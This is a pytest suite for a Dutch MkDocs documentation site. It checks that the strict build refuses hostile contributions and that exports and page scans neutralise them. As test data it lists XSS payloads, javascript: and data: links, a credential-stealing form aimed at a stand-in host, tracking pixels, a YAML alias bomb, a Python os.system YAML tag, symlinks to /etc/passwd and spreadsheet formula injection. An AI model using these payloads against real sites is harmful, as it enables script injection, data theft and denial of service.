"""Hostile contributions, tried as an attacker would: each must stop `mkdocs build --strict`
with a Dutch message that names the file — no traceback, no hang, nothing published.

One row per class of attack; every row builds a copy of the real project with the hostile
file added. When a new bypass is found, it becomes a row here first.
"""

from __future__ import annotations

import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.conftest import ROOT, copy_project

TEMPLATE = (ROOT / ".github" / "praktijkvoorbeeld-sjabloon.md").read_text(encoding="utf-8")
EXAMPLE = "docs/praktijkvoorbeelden/genk-test.md"
TITLE = 'titel: "Gemeente: korte titel van je voorbeeld"'


def example(body: str = "", front: str = "") -> str:
    """The contributor template with its own title, extra front matter and body text added."""
    text = TEMPLATE.replace(TITLE, 'titel: "Genk: test van een bijdrage"' + front)
    return text + body


@dataclass(frozen=True)
class Case:
    files: dict[str, str | bytes]  # path in the project -> content
    fragment: str  # part of the Dutch message
    file: str = EXAMPLE  # the file the message must name
    symlinks: tuple[tuple[str, str], ...] = ()  # (link in the project, target)


def stranger_term(term: str = "Huurcontract", extra: str = "", reading: str = "") -> str:
    """A glossary entry as a stranger's pull request would add it (valid unless changed)."""
    reading = reading or (
        "- perspectief: redactie\n"
        "  tekst: Een eigen omschrijving.\n"
        "  bron: {titel: Eigen omschrijving van de redactie, uitgever: redactie}\n"
    )
    return f"term: {term}\nsoort: begrip\nstand: 2026-11-30\n{extra}lezingen:\n{reading}"


ALIAS_BOMB = "\n".join(
    ['a: &a ["x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    + [f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]" for i in range(8)]
)

CASES: dict[str, Case] = {
    # Raw HTML, also split over lines so that a line-by-line scan would miss it.
    "split-base-tag": Case(
        {EXAMPLE: example('\n<base\n  href="https://aanvaller.example/">\n')},
        "HTML-code is niet toegelaten",
    ),
    "split-iframe-srcdoc": Case(
        {EXAMPLE: example('\nTekst.\n\n<iframe\nsrcdoc="<script>alert(1)</script>"></iframe>\n')},
        "HTML-code is niet toegelaten",
    ),
    "split-meta-refresh": Case(
        {EXAMPLE: example('\n<meta\nhttp-equiv="refresh" content="0;url=https://x.example">\n')},
        "HTML-code is niet toegelaten",
    ),
    "split-form-password": Case(
        {
            EXAMPLE: example(
                '\n<form\naction="https://x.example/steel">\n<input type="password"></form>\n'
            )
        },
        "HTML-code is niet toegelaten",
    ),
    "inline-script": Case(
        {EXAMPLE: example("\nTekst <script>alert(1)</script> meer.\n")},
        "HTML-code is niet toegelaten",
    ),
    "html-comment": Case(
        {EXAMPLE: example("\nTekst.\n\n<!-- verborgen -->\n")}, "HTML-code is niet toegelaten"
    ),
    "harmless-looking-html": Case(
        {EXAMPLE: example("\nEen <em>klein</em> woord.\n")}, "HTML-code is niet toegelaten"
    ),
    # attr_list: any attribute from body text.
    "attr-list-onclick": Case(
        {EXAMPLE: example('\nKlik hier.\n{: onclick="alert(1)" }\n')},
        "het attribuut “onclick” op <p> is niet toegelaten",
    ),
    "attr-list-style-overlay": Case(
        {
            EXAMPLE: example(
                "\nTekst.\n{: style='position:fixed;inset:0;background:url(//t.example/p)' }\n"
            )
        },
        "het attribuut “style” op <p> is niet toegelaten",
    ),
    "attr-list-on-link": Case(
        {EXAMPLE: example('\n[site](https://www.genk.be){: onmouseover="alert(1)" }\n')},
        "het attribuut “onmouseover” op <a> is niet toegelaten",
    ),
    "attr-list-class-spoof": Case(
        {EXAMPLE: example("\nDringend!\n{: .md-banner .admonition .danger }\n")},
        "het attribuut “class” op <p> is niet toegelaten",
    ),
    # Links that run script or carry a document.
    "javascript-link": Case(
        {EXAMPLE: example("\n[klik](javascript:alert(document.cookie))\n")},
        "de link “javascript:alert(document.cookie)” op <a> is niet toegelaten",
    ),
    "javascript-reference-link": Case(
        {EXAMPLE: example("\n[klik][x]\n\n[x]: JaVaScRiPt:alert(1)\n")},
        "op <a> is niet toegelaten",
    ),
    "entity-encoded-javascript": Case(
        {EXAMPLE: example("\n[klik](&#106;avascript:alert(1))\n")}, "op <a> is niet toegelaten"
    ),
    "data-url-link": Case(
        {
            EXAMPLE: example(
                "\n[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n"
            )
        },
        "op <a> is niet toegelaten",
    ),
    # Loads from outside without a click.
    "tracking-image": Case(
        {EXAMPLE: example("\n![](https://tracker.example/pixel.gif)\n")},
        "het element <img> is niet toegelaten",
    ),
    # Every spelling of the snippet include.
    "snippet-short": Case(
        {EXAMPLE: example('\n-8<- "mkdocs.yml"\n')}, "een ander bestand in te voegen"
    ),
    "snippet-uneven": Case(
        {EXAMPLE: example('\n--8<- ".github/workflows/publish.yml"\n')},
        "een ander bestand in te voegen",
    ),
    "snippet-block": Case(
        {EXAMPLE: example("\n--8<--\n.git/config\n--8<--\n")}, "een ander bestand in te voegen"
    ),
    "snippet-indented-escaped": Case(
        {EXAMPLE: example("\n   ;---8<--- 'docs/praktijkvoorbeelden/genk-test.md:2:3'\n")},
        "een ander bestand in te voegen",
    ),
    # Template code and front-matter tricks.
    "render-macros-behind-dots": Case(
        {
            EXAMPLE: "---\nrender_macros: true\n...\n"
            + TEMPLATE.removeprefix("---\n")
            + "\n{{ config }}\n"
        },
        "de gegevens bovenaan worden niet eenduidig gelezen",
    ),
    "jinja-index-in-folder": Case(
        {"docs/praktijkvoorbeelden/index.md": example("\n{{ config.repo_url }}\n")},
        "“index.md” is geen geldige naam",
        file="docs/praktijkvoorbeelden/index.md",
    ),
    "template-in-title": Case(
        {EXAMPLE: example().replace("Genk: test van een bijdrage", "{{ 7*7 }}")},
        "titel",
    ),
    # YAML that never finishes, or ends in a traceback.
    "yaml-alias-bomb": Case(
        {EXAMPLE: "---\n" + ALIAS_BOMB + "\n" + TEMPLATE.removeprefix("---\n")},
        "verwijzingen met & en * (ankers en aliassen) zijn niet toegelaten",
    ),
    "yaml-recursive-alias": Case(
        {EXAMPLE: example(front="\nthemas: &t [*t]")},
        "verwijzingen met & en *",
    ),
    "yaml-list-as-key": Case(
        {EXAMPLE: example(front="\n? [a, b]\n: waarde")}, "een veldnaam moet gewone tekst zijn"
    ),
    "yaml-number-as-key": Case(
        {EXAMPLE: example(front="\n2021: jaar")}, "een veldnaam moet gewone tekst zijn"
    ),
    "yaml-python-tag": Case(
        {EXAMPLE: example(front="\nextra: !!python/object/apply:os.system ['id']")},
        "een YAML-tag",
    ),
    "yaml-deep-nesting": Case(
        {EXAMPLE: example(front="\nextra: " + "[" * 5000 + "]" * 5000)}, "te diep genest"
    ),
    "yaml-huge": Case(
        {EXAMPLE: example(front="\nextra: [" + ", ".join(["woord"] * 60000) + "]")},
        "is te groot",
    ),
    "nul-byte": Case({EXAMPLE: example("\nTekst\x00 verborgen.\n")}, "onzichtbaar stuurteken"),
    "bidi-override": Case(
        {EXAMPLE: example("\nTekst \u202egniknil\u202c.\n")}, "onzichtbaar stuurteken (U+202E)"
    ),
    "impossible-date": Case(
        {EXAMPLE: example().replace("datum: 2026-11-26", "datum: 2021-02-31")},
        "“2021-02-31” bestaat niet op de kalender",
    ),
    "multi-line-title": Case(
        {EXAMPLE: example().replace('"Genk: test van een bijdrage"', '"Genk:\\nnieuwe regel"')},
        "titel",
    ),
    # The same classes in the other contributed files.
    "partner-javascript-link": Case(
        {
            "data/partners.yaml": (ROOT / "data" / "partners.yaml")
            .read_text(encoding="utf-8")
            .replace("- id: caw\n", '- id: caw\n  wat: "Zie [hier](javascript:alert(1))."\n', 1)
        },
        "op <a> is niet toegelaten",
        file="data/partners.yaml",
    ),
    "partner-tracking-image": Case(
        {
            "data/partners.yaml": (ROOT / "data" / "partners.yaml")
            .read_text(encoding="utf-8")
            .replace("- id: caw\n", '- id: caw\n  wat: "![](https://t.example/p.gif)"\n', 1)
        },
        "het element <img> is niet toegelaten",
        file="data/partners.yaml",
    ),
    "glossary-alias-bomb": Case(
        {"glossary/bom.yaml": ALIAS_BOMB + "\nterm: Bom\n"},
        "verwijzingen met & en *",
        file="glossary/bom.yaml",
    ),
    "glossary-multi-line-term": Case(
        {
            "glossary/twee-regels.yaml": (ROOT / "glossary" / "leegstand.yaml")
            .read_text(encoding="utf-8")
            .replace("term: Leegstand", 'term: "Leeg\\nstand"')
        },
        "term",
        file="glossary/twee-regels.yaml",
    ),
    # Names a stranger's term may not claim (issue 19): a common word of the guide, another
    # term's name, an "abbreviation" that is an ordinary word; nor words it puts in the
    # guide's mouth.
    "glossary-claims-a-common-word": Case(
        {"glossary/premie.yaml": stranger_term("Premie")},
        "“Premie” is een gewoon woord uit de leidraad",
        file="glossary/premie.yaml",
    ),
    "glossary-claims-another-terms-name": Case(
        {"glossary/loket.yaml": stranger_term("Loket voor wonen", "synoniemen: [woonloket]\n")},
        "“woonloket” is ook een naam van de term “woonloket”",
        file="glossary/loket.yaml",
    ),
    "glossary-abbreviation-that-is-a-word": Case(
        {"glossary/huur.yaml": stranger_term("Huurcontract van een woning", "afkorting: Huur\n")},
        "“Huur” is geen afkorting",
        file="glossary/huur.yaml",
    ),
    "glossary-words-put-in-the-guides-mouth": Case(
        {
            "glossary/huur.yaml": stranger_term(
                reading="- perspectief: leidraad\n"
                "  tekst: Elke gemeente moet een huurcontract gratis nakijken.\n"
                "  bron: {titel: Leidraad, uitgever: leidraad}\n"
            )
        },
        "de tekst staat niet zo in de leidraad",
        file="glossary/huur.yaml",
    ),
    # Symbolic links publish any file of the machine that builds the site.
    "symlink-example": Case({}, "is een symbolische link", symlinks=((EXAMPLE, "/etc/passwd"),)),
    "symlink-data": Case(
        {},
        "is een symbolische link",
        file="data/extra.yaml",
        symlinks=(("data/extra.yaml", "../.git/config"),),
    ),
}


def run_build(project: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "PYTHONDONTWRITEBYTECODE": "1"}
    return subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--strict", "--site-dir", str(project / "site")],
        cwd=project,
        env=env,
        capture_output=True,
        text=True,
        check=False,
        timeout=60,  # an alias bomb must not hang the build
    )


@pytest.mark.parametrize("name", CASES)
def test_hostile_contribution_stops_the_build(tmp_path, name):
    case = CASES[name]
    project = copy_project(tmp_path / "project")
    for relative, content in case.files.items():
        path = project / relative
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    for link, target in case.symlinks:
        (project / link).symlink_to(target)
    result = run_build(project)
    output = result.stdout + result.stderr
    assert result.returncode != 0, f"the build accepted {name}:\n{output[-2000:]}"
    assert "Traceback" not in output, output[-3000:]
    assert "De bouw stopt" in output, output[-3000:]
    mine = [line for line in output.splitlines() if case.file in line]
    assert any(case.fragment in line for line in mine), "\n".join(mine) or output[-3000:]
    assert not (project / "site" / "praktijkvoorbeelden" / "genk-test" / "index.html").exists()


BORROWED_VOICES = {
    # A text of the association of local governments under Welzijn.
    "glossary/vvsg-als-welzijn.yaml": (
        stranger_term(
            reading="- perspectief: welzijn\n"
            "  tekst: Het lokaal bestuur regisseert het sociaal beleid.\n"
            "  bron: {titel: VVSG over sociaal beleid, url: 'https://www.vvsg.be/x', "
            "uitgever: vvsg, geraadpleegd: 2026-11-30}\n"
        ),
        "spreekt niet voor Welzijn",
    ),
    # A news article under Wonen.
    "glossary/nieuws-als-wonen.yaml": (
        stranger_term(
            reading="- perspectief: wonen\n"
            "  tekst: De wachtlijsten worden langer.\n"
            "  bron: {titel: Nieuwsbericht, url: 'https://www.tvl.be/x', uitgever: tvl, "
            "geraadpleegd: 2026-11-30}\n"
        ),
        "spreekt niet voor Wonen",
    ),
    # The editors' paraphrase under Wonen.
    "glossary/redactie-als-wonen.yaml": (
        stranger_term(
            reading="- perspectief: wonen\n"
            "  tekst: Volgens ons bedoelt Wonen hiermee een woning.\n"
            "  bron: {titel: Eigen omschrijving van de redactie, uitgever: redactie}\n"
        ),
        "spreekt niet voor Wonen",
    ),
}


def test_a_borrowed_voice_under_a_sectors_name_stops_the_build(tmp_path):
    """Issue 17: a VVSG text, a news article and the editors' paraphrase under a sector's
    name are each refused, in Dutch, naming the file."""
    project = copy_project(tmp_path / "project")
    for relative, (content, _) in BORROWED_VOICES.items():
        (project / relative).write_text(content, encoding="utf-8")
    result = run_build(project)
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "De bouw stopt" in output, output[-3000:]
    assert "Traceback" not in output, output[-3000:]
    for relative, (_, fragment) in BORROWED_VOICES.items():
        mine = [line for line in output.splitlines() if relative in line]
        assert any(fragment in line and "lezingen[1].bron.uitgever" in line for line in mine), (
            relative,
            mine or output[-3000:],
        )


def test_an_example_made_from_the_template_builds(tmp_path):
    """The contributor's own starting point, with `bron: bijdrage`, passes the strict build."""
    project = copy_project(tmp_path / "project")
    (project / EXAMPLE).write_text(example(), encoding="utf-8")
    result = run_build(project)
    assert result.returncode == 0, result.stdout + result.stderr
    page = project / "site" / "praktijkvoorbeelden" / "genk-test" / "index.html"
    html = page.read_text(encoding="utf-8")
    assert "Genk: test van een bijdrage" in html
    assert "Bijdrage van 2026-11-26" in html


def test_markdown_that_contributors_use_builds(tmp_path):
    """The allowlist is not so strict that ordinary writing fails."""
    body = """
Een alinea met **vet**, *cursief*, `code`, een [link](https://www.genk.be "Genk"), een
[pagina van de site](../woordenlijst.md#woonbegeleiding), <https://www.hasselt.be> en
<wonen@limburg.be>. Het OCMW en het SVK & de CAW's werken samen.[^1]

## Wat deden we?

- een opsomming
- met twee punten

1. genummerd
2. ook

> Een citaat van een bewoner.

| wie | wat |
|:----|----:|
| OCMW | 3 |

```
een stukje code
```

Term
:   Een definitie.

[^1]: Een voetnoot.
"""
    project = copy_project(tmp_path / "project")
    (project / EXAMPLE).write_text(example(body), encoding="utf-8")
    result = run_build(project)
    assert result.returncode == 0, result.stdout + result.stderr


# Exports: a cell that a spreadsheet would run comes out neutralised.

FORMULAS = ['=HYPERLINK("https://x.example","klik")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_neutralised(cell):
    from macros.exports import safe_cell

    assert safe_cell(cell) == "'" + cell
    assert safe_cell("Woonbegeleiding") == "Woonbegeleiding"
    assert safe_cell("") == ""


def test_csv_export_neutralises_a_hostile_term(tmp_path):
    import csv
    import io

    from macros.exports import to_csv
    from macros.site import load_site

    project = copy_project(tmp_path / "project")
    source = (project / "glossary" / "leegstand.yaml").read_text(encoding="utf-8")
    (project / "glossary" / "leegstand.yaml").write_text(
        source.replace("term: Leegstand", 'term: "=HYPERLINK(1)"'), encoding="utf-8"
    )
    text = to_csv(load_site(project), "https://voorbeeld.test/woordenlijst/")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert "'=HYPERLINK(1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


# The last line of defence: every built page is scanned for what loads without a click.

OUTSIDE = {
    "base": '<base href="https://x.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://x.example">',
    "img": '<img src="https://t.example/p.gif" alt="">',
    "srcset": '<img src="a.png" srcset="a.png 1x, https://t.example/b.png 2x" alt="">',
    "style-attribute": "<p style=\"background:url( 'https://t.example/p' )\">x</p>",
    "style-element": "<style>@import 'https://t.example/x.css';</style>",
    "form-action": '<form action="https://x.example/steel"></form>',
    "iframe": '<iframe src="pagina.html"></iframe>',
    "object": '<object data="x.swf"></object>',
    "embed": '<embed src="x.swf">',
    "svg-image": '<svg><image href="https://t.example/p.svg"/></svg>',
    "stylesheet": '<link rel="stylesheet" href="https://fonts.example/css">',
    "protocol-relative": '<script src="//cdn.example/x.js"></script>',
    "handler": '<a href="#" onclick="x()">x</a>',
    "javascript-url": '<a href="javascript:alert(1)">x</a>',
    # A browser drops tabs and line breaks from a URL: still a script.
    "javascript-tab": '<a href="java&#9;script:alert(1)">x</a>',
    # Without JavaScript a browser shows what <noscript> holds, and loads it.
    "noscript": '<noscript><img src="https://t.example/p.gif" alt=""></noscript>',
    # Inert until a script clones it; the site has none.
    "template": '<template><img src="https://t.example/p.gif" alt=""></template>',
    "uppercase": '<IMG SRC="https://t.example/p.gif" ALT="">',
}


@pytest.mark.parametrize("name", OUTSIDE)
def test_the_site_scan_finds_every_automatic_load(name):
    from macros.sanitize import outside_loads

    assert outside_loads(f"<html><body>\n{OUTSIDE[name]}\n</body></html>", "site.example")


def test_the_site_scan_allows_what_stays_inside():
    from macros.sanitize import outside_loads

    inside = (
        '<img src="../assets/logo.png" srcset="a.png 1x, b.png 2x" alt="">'
        '<link rel="stylesheet" href="../assets/stylesheets/main.css">'
        '<link rel="canonical" href="https://elders.example/pagina/">'
        '<a href="https://www.vlaanderen.be">een gewone link mag</a>'
        '<img src="data:image/png;base64,AAAA" alt="">'
        '<img src="https://site.example/logo.png" alt="">'
    )
    assert outside_loads(inside, "site.example") == []


def test_the_built_site_loads_nothing_from_outside(site):
    """Every HTML and CSS file of the real build, not a list of pages."""
    from macros.sanitize import check_built_site

    assert check_built_site(site, None, {}) == []


def test_the_build_scan_reads_the_content_of_example_pages(tmp_path):
    """Example pages are scanned from their <article> on: what a contribution adds is there.

    Each page is parsed once (macros/built.py); the final scan reuses what was found in a page
    whose file has not changed, and scans a changed one again, whole.
    """
    from macros.built import BuiltPages
    from macros.sanitize import check_built_site

    page = tmp_path / "praktijkvoorbeelden" / "x" / "index.html"
    page.parent.mkdir(parents=True)
    page.write_text(
        '<html><head><link rel="stylesheet" href="../../assets/main.css"></head><body>\n'
        '<article class="md-content__inner">\n<p>tekst</p>\n'
        '<img src="https://tracker.example/p.gif" alt="">\n</article></body></html>\n',
        encoding="utf-8",
    )
    sources = {"praktijkvoorbeelden/x/index.html": "praktijkvoorbeelden/x.md"}
    pages = BuiltPages(tmp_path, None, frozenset(sources))
    assert [p.url for p in pages] == ["praktijkvoorbeelden/x/"]
    expected = [
        "praktijkvoorbeelden/x/index.html (gemaakt uit docs/praktijkvoorbeelden/x.md):4: "
        "<img src> laadt “https://tracker.example/p.gif” van buiten de site"
    ]
    assert check_built_site(tmp_path, None, sources, pages.seen) == expected
    # Changed after it was read: scanned again, in full.
    page.write_text(page.read_text(encoding="utf-8").replace("<p>", '<p onclick="x()">'))
    found = check_built_site(tmp_path, None, sources, pages.seen)
    assert len(found) == 2 and "onclick" in found[0] + found[1]
